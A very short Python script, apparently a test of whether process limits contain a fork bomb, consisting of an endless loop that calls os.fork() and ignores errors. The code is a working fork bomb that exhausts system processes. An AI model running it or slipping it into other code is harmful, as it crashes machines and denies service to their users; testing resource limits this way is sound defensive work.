"""Does a fork bomb stay small?"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
